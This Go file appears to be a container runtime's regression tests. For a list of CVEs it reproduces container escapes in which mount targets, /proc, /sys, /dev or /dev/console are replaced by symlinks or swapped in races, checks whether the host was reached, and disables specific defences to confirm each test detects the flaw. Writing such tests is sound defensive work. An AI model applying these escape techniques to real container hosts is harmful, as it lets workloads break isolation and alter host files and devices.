package attack

import (
	"net"
	"os"
	"strings"
	"time"
)

// Links of the image, or of a volume that others write to, instead of mount targets and mount points.

// followAll makes every look-up in the image follow links like a look-up on the host.
const followAll = "resolve 0 ^openat2\\(.*(open the mount point|open it|enter it|open the directory)"

func init() { add(attacksOnMounts) }

var attacksOnMounts = []attack{
	{
		name: "CVE-2015-3627", what: "an absolute link instead of a mount target of the default config",
		try: func(s *stage) string {
			s.Config.unmount("/dev/")
			s.link(s.victim+"/folder", "dev")
			return s.escaped()
		},
		without: []way{{edit: followAll}},
	},
	{
		name: "CVE-2019-18837", what: "a volume's target that is a link: the volume is mounted on the host's directory",
		try: func(s *stage) string {
			must(s.t, os.Mkdir(s.dir+"/volume", 0o755))
			s.link(s.victim+"/folder", "data")
			s.Config.mount("/data", "bind", s.dir+"/volume", "bind")
			return s.escaped()
		},
		without: []way{{edit: "resolve 0 open the mount point"}},
	},
	{
		name: "CVE-2019-19921, CVE-2023-27561",
		what: "/proc is a link into a volume of another container, which then has this container's procfs",
		try: func(s *stage) string {
			must(s.t, os.MkdirAll(s.dir+"/volume/fake", 0o755))
			s.Config["mounts"] = append([]any{map[string]any{
				"destination": "/volume", "type": "bind",
				"source": s.dir + "/volume", "options": []string{"bind"},
			}},
				s.Config["mounts"].([]any)...)
			s.link("/volume/fake", "proc")
			if out, status := s.run("cat", "/volume/fake/self/status"); status == 0 && strings.Contains(out, "Pid:") {
				return "a procfs in the volume"
			}
			return ""
		},
		without: []way{{edit: "resolve 0x12 mounts\\[1\\].destination: open"}},
	},
	{
		name: "CVE-2025-54867", what: "/sys is a link into the image",
		try: func(s *stage) string {
			s.link("/tmp", "sys")
			if _, status := s.run("ls", "/tmp/kernel"); status == 0 {
				return "a sysfs at /tmp"
			}
			return ""
		},
		without: []way{{edit: "resolve 0x12 (^openat2.*\"sys\".*open|open the directory)"}},
	},
	{
		name: "CVE-2026-41579, CVE-2026-47766", what: "/dev is a link to the host's: nodes are made there",
		try: func(s *stage) string {
			s.Config.unmount("/dev")
			s.link(s.victim+"/folder", "dev")
			s.run("true")
			return s.harmed()
		},
		without: []way{{edit: "resolve 0 \"dev\", \\{"}},
	},
	{
		name: "CVE-2021-30465", what: "three mount targets in a volume that are swapped for links again and again",
		try: func(s *stage) string {
			s.swapped("a", "b", "c")
			return s.race(s.escaped)
		},
		// What was looked up is looked up again, by its name.
		without: []way{{edit: again("a") + again("b") + again("c")}},
	},
	{
		name: "CVE-2023-25809", what: "a read-only bind of /sys has the host's cgroups below it",
		try: func(s *stage) string {
			s.Config.unmount("/sys")
			s.Config.mount("/sys", "bind", "/sys", "rbind", "ro", "nosuid", "nodev", "noexec")
			s.Config.at("linux")["readonlyPaths"] = []string{}
			s.Config.at("linux")["maskedPaths"] = []string{}
			out, status := s.run("cat", "/proc/self/mountinfo")
			for _, m := range mountLines(out) {
				if status == 0 && strings.HasPrefix(m.point, "/sys/fs/cgroup") && !strings.HasPrefix(m.options, "ro") {
					return "read-write: " + m.point
				}
			}
			return ""
		},
		without: []way{{edit: "clear 2 0x8000 ^mount_setattr.*mounts\\[5\\]"}},
	},
	{
		name: "CVE-2025-52565", what: "/dev/console is a link: the terminal is attached to what it leads to",
		try: func(s *stage) string {
			s.Config.unmount("/dev")
			s.Config.mount("/dev/pts", "devpts", "devpts", "newinstance", "ptmxmode=0666")
			s.Config.at("process")["terminal"] = true
			s.link(s.victim+"/file", "dev/console")
			return s.escapedAtConsole()
		},
		// O_PATH|O_CLOEXEC, without O_NOFOLLOW.
		without: []way{{edit: "resolve 0 process.terminal: open it$\ndata 2 0 0x280000 process.terminal: open it$"}},
	},
	{
		name: "a name looked up twice",
		what: "a mount is made read-only by a remount while its target is swapped for a link to another mount again " +
			"and again",
		try: func(s *stage) string {
			volume, source := s.dir+"/volume", s.dir+"/source"
			must(s.t, os.MkdirAll(volume+"/a", 0o755))
			must(s.t, os.Mkdir(source, 0o755))
			must(s.t, os.Symlink("../other", volume+"/a.link"))
			s.background(swapper, volume+"/a", volume+"/a.link")
			s.Config.mount("/other", "tmpfs", "other")
			s.Config.mount("/volume", "bind", volume, "rbind")
			s.Config.mount("/volume/a", "bind", source, "bind")
			s.Config.mount("/volume/a", "bind", source, "bind", "remount", "rro")
			return s.race(func() string {
				out, status := s.run("cat", "/proc/self/mountinfo")
				for _, m := range mountLines(out) {
					if status == 0 && strings.HasSuffix(m.root, source) && !strings.HasPrefix(m.options, "ro") {
						return "read-write: " + m.point
					}
				}
				return ""
			})
		},
		// The mount is looked up a second time, by its name.
		without: []way{{edit: "set 0 0xffffffffffffff9c change the flags of this mount\n" +
			"text 1 $ROOTFS/volume/a change the flags of this mount\n" +
			"set 2 0x8000 change the flags of this mount"}},
	},
	{
		name: "CVE-2024-45310",
		what: "mount points that are missing below directories that are swapped for links again and again",
		try: func(s *stage) string {
			s.swapped("a/new/x", "b/new/y", "c/new/z")
			return s.race(s.escaped)
		},
		without: []way{{edit: followAll}},
	},
}

// again attaches the mount at /volume/NAME by that name: where the edit is made the host's paths are those of the boot
// process.
func again(name string) string {
	step := " ^move_mount.*mounts\\[" + map[string]string{"a": "8", "b": "9", "c": "10"}[name] + "\\]: attach it\n"
	return "set 2 0xffffffffffffff9c" + step + "text 3 $ROOTFS/volume/" + name + step + "set 4 0x14" + step
}

// swapped gives the container a volume of a, b and c, each of which is exchanged for a link to the victim again and
// again, with a read-only tmpfs at each name.
func (s *stage) swapped(names ...string) {
	volume := s.dir + "/volume"
	s.Config.mount("/volume", "bind", volume, "rbind")
	for _, name := range names {
		first, _, below := strings.Cut(name, "/")
		must(s.t, os.MkdirAll(volume+"/"+first, 0o755))
		target := s.victim + "/folder"
		if below {
			target = s.victim
		}
		must(s.t, os.MkdirAll(s.path(s.victim)+"/folder", 0o755)) // so that the link leads somewhere in the image, too
		must(s.t, os.Symlink(target, volume+"/"+first+".link"))
		s.background(swapper, volume+"/"+first, volume+"/"+first+".link")
		s.Config.mount("/volume/"+name, "tmpfs", "hostile", "ro")
	}
}

// race repeats round until it wins, or the time for a race is over.
func (s *stage) race(round func() string) string {
	rounds := 0
	defer func() { s.t.Logf("%d rounds", rounds) }()
	limit := raceTime()
	if s.way != nil {
		limit += 30 * time.Second // it ends with the first success
	}
	for end := time.Now().Add(limit); time.Now().Before(end); rounds++ {
		if won := round(); won != "" {
			return won
		}
	}
	return ""
}

// raceTime is how long a race continues without a winner.
func raceTime() time.Duration {
	if d, err := time.ParseDuration(os.Getenv("ATTACK_SECONDS") + "s"); err == nil {
		return d
	}
	return 3 * time.Second
}

// escapedAtConsole is escaped for a container with a terminal.
func (s *stage) escapedAtConsole() string {
	socket := s.dir + "/console"
	l, err := net.Listen("unix", socket)
	must(s.t, err)
	defer l.Close()
	list := s.watchMounts()
	s.Config.args("true")
	s.save()
	s.rt("create", "--console-socket", socket, "--bundle", s.bundle, s.newID())
	return s.attachedOutside(list)
}

// watchMounts has the mounts of the container written down while the host can still be seen from its mount namespace.
func (s *stage) watchMounts() (list string) {
	list = s.dir + "/mountinfo"
	_ = os.Remove(list)
	s.Config.at("hooks")["createContainer"] = []any{map[string]any{
		"path": "/bin/sh",
		"args": []string{"sh", "-c", "cat /proc/self/mountinfo >" + list},
	}}
	return list
}

// attachedOutside says what was mounted on the victim.
func (s *stage) attachedOutside(list string) string {
	text, _ := os.ReadFile(list)
	for _, m := range mountLines(string(text)) {
		if strings.HasPrefix(m.point, s.victim) {
			return "mounted at " + m.point
		}
	}
	return s.harmed()
}

// escaped runs the container, and says what it changed on the host, or has mounted there or read-write.
func (s *stage) escaped() string {
	list := s.watchMounts()
	out, status := s.run("cat", "/proc/self/mountinfo")
	for _, m := range mountLines(out) {
		if status == 0 && strings.HasPrefix(m.point, "/volume/") && !strings.HasPrefix(m.options, "ro") {
			return "read-write: " + m.point
		}
	}
	return s.attachedOutside(list)
}

// mountLine is a line of /proc/PID/mountinfo: proc(5).
type mountLine struct{ root, point, options, kind string }

func mountLines(text string) (lines []mountLine) {
	for line := range strings.Lines(text) {
		before, after, _ := strings.Cut(line, " - ")
		if f, g := strings.Fields(before), strings.Fields(after); len(f) >= 6 && len(g) > 0 {
			lines = append(lines, mountLine{f[3], f[4], f[5], g[0]})
		}
	}
	return lines
}
